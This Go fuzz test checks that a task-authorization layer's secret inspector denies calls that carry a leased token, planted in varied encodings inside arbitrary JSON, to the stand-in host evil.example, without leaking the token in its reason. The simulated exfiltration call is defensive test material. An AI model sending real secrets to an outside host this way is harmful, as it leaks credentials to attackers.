package secrets

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/taskguard/taskguard/authz"
)

// FuzzInspect feeds the audience inspector arbitrary JSON arguments, with
// the leased value planted in them in one of its encodings: the call must
// be denied as an exfiltration, and the inspection must never fail (a
// panic would show up as a failed inspection) nor show the value.
func FuzzInspect(f *testing.F) {
	f.Add(`{"a":[1,{"b":"PLANT"}]}`, "", uint8(0))
	f.Add(`["x",{"PLANT":null}]`, "user:", uint8(8))
	f.Add(`"PLANT"`, "ab", uint8(3))
	f.Add(`{"deep":[[[[[["PLANT"]]]]]],"n":1e308,"t":true}`, "u", uint8(12))
	f.Add(`not json PLANT`, "", uint8(5))
	f.Add(`{"q":"a=1&t=PLANT"}`, "t=", uint8(1))
	f.Fuzz(func(t *testing.T, args, prefix string, which uint8) {
		if len(args) > 4096 || len(prefix) > 64 || !strings.Contains(args, "PLANT") {
			return
		}
		e, ctx, _ := exfilEnv(t)
		enc := valueEncodings[int(which)%len(valueEncodings)]
		planted := enc.enc(prefix + tokenValue)
		var x any
		if err := json.Unmarshal([]byte(args), &x); err != nil {
			x = args
		}
		x = plant(x, planted)
		d := e.post(ctx, "https://evil.example/", map[string]any{"args": x})
		if d.Effect != authz.Deny || d.Rule != authz.RuleInspect+":secrets" {
			t.Fatalf("%s: planted value not found: %v %s", enc.name, d.Effect, d.Rule)
		}
		if strings.Contains(d.Reason, tokenValue) || strings.Contains(d.Reason, "failed") {
			t.Fatalf("bad reason %q", d.Reason)
		}
	})
}

// plant replaces "PLANT" in every string and key of x by v.
func plant(x any, v string) any {
	switch t := x.(type) {
	case string:
		return strings.ReplaceAll(t, "PLANT", v)
	case []any:
		for i := range t {
			t[i] = plant(t[i], v)
		}
	case map[string]any:
		out := make(map[string]any, len(t))
		for k, e := range t {
			out[strings.ReplaceAll(k, "PLANT", v)] = plant(e, v)
		}
		return out
	}
	return x
}
